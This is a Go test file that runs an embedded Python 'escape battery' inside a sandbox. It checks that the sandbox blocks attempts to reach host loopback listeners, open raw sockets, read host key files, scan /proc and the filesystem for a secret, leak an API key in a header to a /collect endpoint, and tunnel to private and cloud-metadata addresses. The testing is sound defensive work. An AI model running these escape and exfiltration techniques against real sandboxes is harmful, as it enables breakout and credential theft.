package main

import (
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// escapeScript tries every way out of the sandbox it knows and prints one
// JSON object: attempt name -> what happened. {{...}} are filled in.
const escapeScript = `
import json, os, socket, ssl, urllib.request, urllib.error

out = {}
def attempt(name, fn):
    try:
        out[name] = "ok: " + str(fn())
    except Exception as e:
        out[name] = "failed: " + type(e).__name__ + ": " + str(e)

def tcp(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.close()
    return "connected"
attempt("tcp4", lambda: tcp("127.0.0.1", {{TCP4}}))
attempt("tcp6", lambda: tcp("::1", {{TCP6}}))

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"escape", ("127.0.0.1", {{UDP}}))
    s.close()
    return "sent (the host must not receive it)"
attempt("udp", udp)
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("key", lambda: open("{{KEY}}").read())
attempt("host_root", lambda: os.listdir("{{MARKERDIR}}"))

secret = "{{REVERSED}}"[::-1]
def find_secret():
    hits = []
    for path in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline"]:
        try:
            if secret.encode() in open(path, "rb").read():
                hits.append(path)
        except OSError:
            pass
    for v in os.environ.values():
        if secret in v:
            hits.append("environ")
    for top in ["/"]:
        for root, dirs, files in os.walk(top):
            if root == "/":
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
            for f in files:
                p = os.path.join(root, f)
                try:
                    if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 8 << 20:
                        continue
                    if secret.encode() in open(p, "rb").read():
                        hits.append(p)
                except OSError:
                    pass
    if hits:
        return "FOUND in " + ", ".join(hits)
    raise LookupError("not found")
attempt("find_secret", find_secret)

def http(url, headers={}):
    req = urllib.request.Request(url, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return "status %d" % r.status
    except urllib.error.HTTPError as e:
        return "status %d reason %s" % (e.code, e.headers.get("X-Tokrun-Reason"))
    except urllib.error.URLError as e:
        return "failed: %s" % e.reason

def connect(hostport):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT " + hostport.encode() + b" HTTP/1.1\r\nHost: " + hostport.encode() + b"\r\n\r\n")
    data = b""
    while b"\r\n\r\n" not in data:
        b = s.recv(4096)
        if not b:
            break
        data += b
    head = data.decode(errors="replace").split("\r\n")
    reason = [l.split(":", 1)[1].strip() for l in head if l.lower().startswith("x-tokrun-reason:")]
    return "%s reason %s" % (head[0], reason[0] if reason else None)
placeholder = os.environ["DEMO_API_KEY"]
out["placeholder_elsewhere"] = http("{{OTHER}}/collect", {"X-Leak": placeholder})
out["placeholder_home"] = http("{{API}}/v1/quote?text=" + placeholder)
# A name that resolves to loopback, and a loopback IP literal, under rules
# without the private allowance, meet the address guard (were it broken, the
# literal's dial would find nothing listening: a 502, not this refusal). The
# private and metadata literals below have no rule and are denied by policy
# before any tunnel exists; the guard's refusal of such addresses is tested
# in the proxy package with a dialer that cannot reach them, since here a
# broken guard would really dial them.
out["private_by_name"] = http("{{GUARDED}}/v1/x")
out["loopback_ip"] = http("https://127.0.0.2:{{APIPORT}}/v1/x")
out["private_ip"] = connect("10.1.2.3:443")
out["metadata_ip"] = connect("169.254.169.254:80")

def mismatch():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT 127.0.0.1:{{APIPORT}} HTTP/1.1\r\nHost: 127.0.0.1:{{APIPORT}}\r\n\r\n")
    head = s.recv(4096).decode()
    if " 200" not in head.split("\r\n")[0]:
        return "connect refused: " + head.split("\r\n")[0]
    ctx = ssl.create_default_context()
    t = ctx.wrap_socket(s, server_hostname="127.0.0.1")
    t.sendall(b"GET /v1/x HTTP/1.1\r\nHost: localhost:{{OTHERPORT}}\r\nConnection: close\r\n\r\n")
    resp = b""
    while True:
        b = t.recv(4096)
        if not b:
            break
        resp += b
    return resp.decode(errors="replace").split("\r\n")[0]
attempt("host_mismatch", mismatch)
print(json.dumps(out))
`

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// hostListeners are loopback listeners on the host that the sandbox must
// never reach.
type hostListeners struct {
	tcp4, tcp6 net.Listener
	udp        net.PacketConn
	hits       chan string
}

func listenHost(t *testing.T) *hostListeners {
	h := &hostListeners{hits: make(chan string, 16)}
	var err error
	if h.tcp4, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if h.tcp6, err = net.Listen("tcp", "[::1]:0"); err != nil {
		t.Fatalf("IPv6 loopback: %v", err)
	}
	if h.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	for _, ln := range []net.Listener{h.tcp4, h.tcp6} {
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				h.hits <- "tcp " + ln.Addr().String()
				c.Close()
			}
		}()
	}
	go func() {
		buf := make([]byte, 64)
		for {
			if _, _, err := h.udp.ReadFrom(buf); err != nil {
				return
			}
			h.hits <- "udp"
		}
	}()
	t.Cleanup(func() { h.tcp4.Close(); h.tcp6.Close(); h.udp.Close() })
	return h
}

func TestEscapeBattery(t *testing.T) {
	w := newWorld(t)
	h := listenHost(t)
	markerDir, err := os.MkdirTemp("/root", ".tokrun-e2e-marker-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(markerDir) })
	writeFile(t, filepath.Join(markerDir, "host-only"), "host", 0o600)

	src := strings.NewReplacer(
		"{{TCP4}}", strconv.Itoa(portOf(t, h.tcp4.Addr())),
		"{{TCP6}}", strconv.Itoa(portOf(t, h.tcp6.Addr())),
		"{{UDP}}", strconv.Itoa(portOf(t, h.udp.LocalAddr())),
		"{{KEY}}", w.keyFile,
		"{{MARKERDIR}}", markerDir,
		"{{REVERSED}}", reverse(testSecret),
		"{{OTHER}}", w.otherURL(""),
		"{{API}}", w.apiURL(""),
		"{{GUARDED}}", "https://localhost:"+strconv.Itoa(w.apiPort),
		"{{APIPORT}}", strconv.Itoa(w.apiPort),
		"{{OTHERPORT}}", strconv.Itoa(w.otherPort),
	).Replace(escapeScript)
	w.script("escape.py", src)
	r := w.run("", "--", "python3", "escape.py")
	if r.code != 0 {
		t.Fatalf("escape script failed:\n%s", r)
	}
	var got map[string]string
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
		t.Fatalf("bad output: %v\n%s", err, r)
	}
	for _, name := range []string{"tcp4", "tcp6", "dns", "raw", "packet", "key", "host_root", "find_secret", "host_mismatch"} {
		if !strings.HasPrefix(got[name], "failed: ") && name != "host_mismatch" {
			t.Errorf("%s: the attempt succeeded: %s", name, got[name])
		}
	}
	for name, want := range map[string]string{
		"placeholder_elsewhere": "status 403 reason tripwire",
		"placeholder_home":      "status 200",
		"private_by_name":       "status 403 reason private_address",
		"loopback_ip":           "status 403 reason private_address",
		"private_ip":            "403 Forbidden reason host_not_allowed",
		"metadata_ip":           "403 Forbidden reason host_not_allowed",
		"host_mismatch":         "421",
	} {
		if !strings.Contains(got[name], want) {
			t.Errorf("%s = %q, want it to contain %q", name, got[name], want)
		}
	}
	time.Sleep(100 * time.Millisecond) // let a stray packet arrive
	select {
	case hit := <-h.hits:
		t.Errorf("the sandbox reached a host listener: %s", hit)
	default:
	}
	if len(w.otherHits) != 0 {
		t.Errorf("the server the secret is not bound to was reached: %v", w.otherHits)
	}
	if t.Failed() {
		t.Logf("attempts:\n%s", r.stdout)
	}
}
